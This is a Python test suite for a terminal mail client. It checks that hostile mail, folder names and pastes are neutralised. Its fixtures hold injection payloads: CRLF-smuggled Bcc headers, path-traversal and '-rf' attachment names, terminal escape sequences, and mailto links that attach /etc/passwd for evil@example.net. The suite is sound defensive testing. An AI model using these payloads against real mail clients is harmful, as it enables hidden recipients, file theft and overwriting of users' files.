# SPDX-License-Identifier: GPL-3.0-or-later
"""Mail, folders and pastes that mean harm, on the screen: what is answered, saved, opened and drawn."""

import base64
import os
import re
import time
import types

import harness
import offline
from screen import ENTER, ESC, TAB, Screen, control, needed

needed()

HOME = harness.Home()
MILLION = 1000 * 1000
COUNT = iter(range(1, 1000))


def word(text):
    octets = text if isinstance(text, bytes) else text.encode()
    return "=?utf-8?B?" + base64.b64encode(octets).decode() + "?="


def raw(fields, body="Some text.\r\n", folder="INBOX"):
    """A message of these fields, as they stand; a list of (name, value)."""
    number = next(COUNT)
    have = {name.lower() for name, _ in fields}
    fields = list(fields)
    for name, value in (("From", "Bob Miller <bob@example.org>"), ("To", "Alice Example <alice@example.org>"),
                        ("Message-ID", f"<hostile-{number}@example.org>"), ("Date", "Fri, 20 Nov 2026 09:12:00 +0100")):
        if name.lower() not in have:
            fields.append((name, value))
    octets = b"".join(name.encode() + b": " + (value if isinstance(value, bytes) else value.encode()) + b"\r\n"
                      for name, value in fields)
    return types.SimpleNamespace(folder=folder, flags=("\\Seen",), date=time.time() - number * 60,
                                 octets=octets + b"\r\n" + body.encode())


def folded(text, every=900):
    return "\r\n ".join(text[at:at + every] for at in range(0, len(text), every))


def attachment(name_field):
    return (f"--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; {name_field}\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\nc2F2ZWQ=\r\n")


NAMES = ['filename="../../escaped-up"', 'filename="/tmp/posthorn-absolute"', 'filename=".bashrc"', 'filename="-rf"',
         'filename="' + word("x\x1b]0;owned\x07.txt") + '"', "filename*=utf-8''%E2%80%AEcod.exe", 'filename="' + "n" * 5000 + '.txt"',
         'filename="con.txt"', 'filename="twice.txt"', 'filename="twice.txt"', "filename*=utf-8''a%00b%0d%0ac.txt", 'filename=".."', 'filename=""']
MIXED = [("MIME-Version", "1.0"), ("Content-Type", "multipart/mixed; boundary=b")]
HTML = [("MIME-Version", "1.0"), ("Content-Type", "text/html; charset=utf-8")]
LINKS = ("<a href='mailto:evil@example.net?bcc=spy@example.net&amp;attach=/etc/passwd&amp;subject=Hi'>write</a> "
         "<a href='mailto:evil@example.net?subject=a%0D%0ABcc:%20spy@example.net'>lines</a> "
         "<a href='https://evil.example/x'>www.mybank.example</a> <img src='https://track.example/p.gif'>"
         "<img src='https://track.example/q.gif'>\r\n")

REPLIED = {
    "Injected": [("Subject", "Injected " + word("a\r\nBcc: spy@example.net\r\n\r\nbody\0end"))],
    "Sender": [("Subject", "Sender"), ("From", word("Eve\r\nBcc: spy@example.net\x1b[2J") + " <eve@example.net>")],
    "Identity": [("Subject", "Identity"), ("Message-ID", "<a\tb\x01\x7f@example.net> Bcc: spy@example.net"),
                 ("References", "<x\x0b@y> garbage\x02 <\xff@z> Bcc: spy@example.net")],
    "Longest": [("Subject", "Longest " + folded("s" * 200 * 1000)), ("Message-ID", "<" + "m" * 100000 + "@example.net>"),
                ("References", folded("<r@example.net> " * 5000))],
    "Eightbit": [("Subject", b"Eightbit \xe9\xff\x80 \xc3\xbc"), ("From", b"Zo\xeb \xff <zoe@example.net>"), ("Message-ID", b"<\xe9@example.net>")],
    "Groups": [("Subject", "Groups"), ("Reply-To", "x: spy@example.net\x00, \"a\\\r\n b\" <c@example.net>;"), ("From", "<bob@example.net>, <eve@example.net>")],
}
HOSTILE_FOLDERS = ["‮gnp.exe", "a\x1b]0;owned\x07b", "L" * 900, "wide明日" * 40, "­​hidden", "deep/" * 40 + "end"]

mails = [raw(fields) for fields in REPLIED.values()]
mails.append(raw([("Subject", "Names"), *MIXED], "--b\r\nContent-Type: text/plain\r\n\r\nSee.\r\n" + "".join(map(attachment, NAMES)) + "--b--\r\n"))
mails.append(raw([("Subject", "Links"), *HTML], LINKS))
mails.append(raw([("Subject", "Listed"), ("List-Post", "<mailto:list@example.net?bcc=spy@example.net&attach=/etc/passwd>")]))
mails.append(raw([("Subject", "Brokenlist"), ("List-Post", "<mailto:list%0d%0aBcc:spy@example.net>, <javascript:alert(1)>")]))
mails.append(raw([("Subject", "Elsewhere"), ("From", "Bob Miller <bob@example.org>"), ("Reply-To", "bob@collect.example")]))
mails.append(raw([("Subject", "Stranger"), ("From", "Bob Miller <bob.miller@freemail.example>")]))
mails.append(raw([("Subject", "Pretender"), ("From", '"boss@example.org" <evil@example.net>')]))
mails += [raw([("Subject", f"Known {number}")]) for number in range(3)]
offline.fill(HOME, mails + [raw([("Subject", "In it")], folder=name) for name in HOSTILE_FOLDERS])
with open(HOME.config, "a", encoding="utf-8") as config:
    config.write("[posthorn]\nundo-send = 1h\n")


def script(name, text):
    path = os.path.join(HOME.path, name)
    with open(path, "w", encoding="utf-8") as file:
        file.write("#!/bin/sh\n" + text)
    os.chmod(path, 0o700)
    return path


EDITOR = script("editor", "printf 'An answer.\\n' >> \"$1\"\n")


def start(*arguments, columns=80, lines=24):
    return Screen(HOME, "--offline", *arguments, columns=columns, lines=lines, environment={"EDITOR": EDITOR})


def go(screen, subject):
    screen.wait("INBOX")
    screen.keys("/", control("U"), subject, ENTER)
    # While a picture is drawn the cursor stands anywhere: it counts when nothing moves any more.
    there = lambda s: subject in s.lines()[s.cursor[1]] and not s.pump(0.15) and subject in s.lines()[s.cursor[1]]
    screen.wait_until(there, f"the cursor on {subject}")


def is_clean(screen):
    assert b"\x1b]0;" not in screen.raw and b"\x1b]2;" not in screen.raw, "a title was set"
    assert b"\x1b[2Jowned" not in screen.raw and b"\0" not in screen.raw, "raw octets reached the terminal"


def built(screen, name):
    """The octets that would be sent: what the preview gives to a program."""
    path = os.path.join(HOME.path, name)
    screen.keys("v")
    screen.wait("As the recipients will see it")
    screen.keys("|")
    screen.wait("Give it to the program:")
    screen.keys(control("U"), f"cp /dev/stdin {path}", ENTER)
    screen.wait("cp took it")
    screen.keys("q")
    screen.wait("y send")
    with open(path, "rb") as file:
        return file.read()


def check_header(octets):
    head = octets.split(b"\r\n\r\n", 1)[0].split(b"\r\n")
    names = []
    for line in head:
        assert len(line) <= 998, f"a line of {len(line)}"
        assert all(9 == octet or 32 <= octet < 127 for octet in line), f"octets in {line[:200]!r}"
        if line[:1] not in (b" ", b"\t"):
            assert re.match(rb"[!-9;-~]+:", line), f"no field: {line[:200]!r}"
            names.append(line.split(b":", 1)[0].lower())
    for name in (b"subject", b"from", b"to", b"date", b"message-id"):
        harness.equal(names.count(name), 1, f"fields {name}")
    assert b"bcc" not in names, names
    assert len(octets) < 2 * MILLION, len(octets)
    return head


@harness.test
def nothing_of_a_mail_becomes_a_field_of_the_answer():
    for subject in REPLIED:
        with start() as screen:
            go(screen, subject)
            screen.keys("g")
            screen.wait("y send", "An answer.")
            head = check_header(built(screen, "built-" + subject))
            assert not any(b"spy@example.net" in line and not line.lower().startswith((b"to:", b"cc:", b"subject:", b" ")) for line in head), head
            is_clean(screen)
            screen.keys("q", "t")
            screen.wait("INBOX")


@harness.test
def attachments_are_saved_where_one_says_and_under_harmless_names():
    target = os.path.join(HOME.path, "deep", "saved")
    os.makedirs(target)
    with start() as screen:
        go(screen, "Names")
        screen.keys("v")
        screen.wait("Parts of Names")
        screen.keys("=", *["t"] * (len(NAMES) + 2), ";", "s")
        screen.wait("Save the marked parts into:")
        screen.keys(control("U"), target, ENTER)
        harness.wait(lambda: screen.pump(0.02) is not None and len(os.listdir(target)) >= len(NAMES), "all files")
        is_clean(screen)
    names = os.listdir(target)
    for name in names:
        assert name[0] not in ".-~ " and "/" not in name and len(name.encode()) <= 210, name
        assert not re.search("[\x00-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]", name), repr(name)
        path = os.path.join(target, name)
        harness.equal(os.stat(path).st_mode & 0o777, 0o600, name)
    assert "twice.txt" in names and "twice (1).txt" in names, names
    harness.equal(sorted(os.listdir(os.path.dirname(target))), ["saved"], "files above")
    assert not os.path.exists("/tmp/posthorn-absolute")


@harness.test
def an_existing_file_and_a_link_are_never_written_over():
    target = os.path.join(HOME.path, "linked")
    os.makedirs(target)
    victim = os.path.join(HOME.path, "victim")
    with open(victim, "w", encoding="utf-8") as file:
        file.write("mine")
    os.symlink(victim, os.path.join(target, "twice.txt"))
    with start() as screen:
        go(screen, "Names")
        screen.keys("v")
        screen.wait("Parts of Names", "twice.txt")
        screen.keys("/", "twice", ENTER)
        screen.wait_until(lambda s: "twice" in s.lines()[s.cursor[1]], "the cursor there")
        screen.keys("s")
        screen.wait("Save as:")
        screen.keys(control("U"), os.path.join(target, "twice.txt"), ENTER)
        screen.wait("Saved as", "twice (1).txt")
    with open(victim, encoding="utf-8") as file:
        harness.equal(file.read(), "mine")


@harness.test
def a_mailto_adds_no_recipient_no_file_and_no_line():
    with start() as screen:
        go(screen, "Links")
        screen.keys(ENTER)
        screen.wait("[1] mailto:evil@example.net")
        for number in ("1", "2"):
            screen.keys("l")
            screen.wait("Link:")
            screen.keys(number, ENTER)
            screen.wait("Write to this address? y/n")
            screen.keys("y")
            screen.wait_until(lambda s: "y/n" not in s.text(), "the answer")
            screen.settle(0.4)
            text = screen.text()
            assert "passwd" not in text.split("Bcc")[-1] or "refused" in text.lower() or "not taken" in text.lower(), text
            bcc = next((line for line in screen.lines() if line.startswith(" Bcc")), "")
            assert "spy" not in bcc and "Attached" not in text, text
            if "y send" in text or "Subject:" in text or "write" in screen.lines()[0]:
                screen.keys(control("G"), "q")
                screen.settle(0.3)
                if "t throw it away" in screen.text():
                    screen.keys("t")
            screen.wait("Subject  Links")
        is_clean(screen)


@harness.test
def a_mailto_on_the_command_line_is_treated_alike():
    with start("mailto:carol@example.org?cc=dave@example.org&bcc=spy@example.net&attach=/etc/passwd&body=Hello") as screen:
        screen.settle(1)
        text = screen.text()
        assert "root:" not in text and "Attached" not in text, text
        bcc = next((line for line in screen.lines() if line.startswith(" Bcc")), "")
        assert "spy" not in bcc, text


@harness.test
def what_is_wrong_with_a_message_is_said_below_it():
    with start() as screen:
        for subject, words in (("Links", "Careful: the link says www.mybank.example and goes to evil.example."),
                               ("Elsewhere", "Careful: answers go to bob@collect.example, not to the sender."),
                               ("Stranger", "Careful: first mail from this address; the name is that of a person you know."),
                               ("Pretender", "Careful: the sender's name looks like another address")):
            go(screen, subject)
            screen.keys(ENTER)
            screen.wait("Subject  " + subject)
            screen.wait_until(lambda s: re.sub(r"\s+", " ", s.text()).find(words) >= 0, repr(words))
            screen.keys("q")
        go(screen, "Known 1")
        screen.keys(ENTER)
        screen.wait("Subject  Known 1", "Some text.")
        assert "Careful" not in screen.text(), screen.text()


@harness.test
def remote_pictures_are_counted_and_not_fetched():
    with start() as screen:
        go(screen, "Links")
        screen.keys(ENTER)
        screen.wait("HTML mail shown as text · 2 remote pictures not loaded · v views parts")


@harness.test
def an_answer_away_from_the_sender_is_asked_about():
    with start() as screen:
        go(screen, "Elsewhere")
        screen.keys("r")
        screen.wait("An answer.", "bob@collect.example")
        screen.keys("y")
        screen.wait("It goes where Reply-To says", "Send it? y/n")
        screen.keys("n")
        screen.wait("Nothing was done")
        screen.keys("q", "t")


@harness.test
def a_list_address_adds_no_hidden_recipient():
    with start() as screen:
        for subject in ("Listed", "Brokenlist"):
            go(screen, subject)
            screen.keys("L")
            screen.wait("An answer.", "y send")
            octets = built(screen, "built-" + subject)
            check_header(octets)
            assert b"spy@" not in octets.split(b"\r\n\r\n", 1)[0], octets[:600]
            assert "Attached" not in screen.text()
            screen.keys("q", "t")
            screen.wait("INBOX")


@harness.test
def folders_of_any_name_stay_in_their_pane():
    for columns in (80, 200):
        with start(columns=columns, lines=50) as screen:
            screen.wait("Links")
            screen.keys("y")
            screen.wait("gnp.exe")
            screen.settle()
            is_clean(screen)
            assert "\u202e" not in screen.text(), "an override was drawn"
            if columns == 200:
                for row in range(1, 48):
                    harness.equal(screen.cell(24, row).data, "│", f"the rule in row {row}")
            screen.keys("/", "LLLL", ENTER)
            screen.wait_until(lambda s: "LLLL" in s.lines()[s.cursor[1]], "the cursor there")
            screen.keys(ENTER)
            screen.wait("In it")
            screen.keys("c", "deep", TAB)
            screen.wait("Open folder")
            screen.keys(control("G"), ENTER)
            screen.wait("Some text.")


@harness.test
def megabytes_pasted_into_a_prompt_stop_nothing():
    for opener, label in (("l", "Show only"), (":", "help"), ("c", "Open folder"), ("|", "Give it to the program:")):
        with start() as screen:
            go(screen, "Known 1")
            screen.keys(opener)
            screen.wait(label)
            text = "\x1b[200~" + "paste \x1b[2J\x07\u202e" * 80000 + "\x1b[201~"
            octets, sent = text.encode(), 0
            while sent < len(octets):
                sent += os.write(screen.terminal, octets[sent:sent + 4096])
                screen.pump(0)
            screen.keys(control("G"))
            screen.wait("Enter read", seconds=60)
            is_clean(screen)
            screen.keys("=")
            screen.wait_until(lambda s: s.cursor[1] == 1, "a key to be answered")


@harness.test
def hostile_words_typed_as_recipients_make_no_field():
    with start() as screen:
        screen.wait("Links")
        screen.keys("m")
        screen.wait(" To:")
        screen.keys("\x1b[200~carol@example.org\r\nBcc: spy@example.net\x1b[201~", ENTER)
        screen.wait("Subject:")
        screen.keys("\x1b[200~One\r\nBcc: spy@example.net\r\n\r\nbody\x1b[201~", ENTER)
        screen.wait("An answer.", "y send")
        screen.keys("v")
        screen.settle(0.5)
        if "As the recipients will see it" in screen.text():
            screen.keys("q")
            screen.wait("y send")
            check_header(built(screen, "built-typed"))
        else:
            screen.wait("cannot be written")
        screen.keys("q", "t")


harness.done()
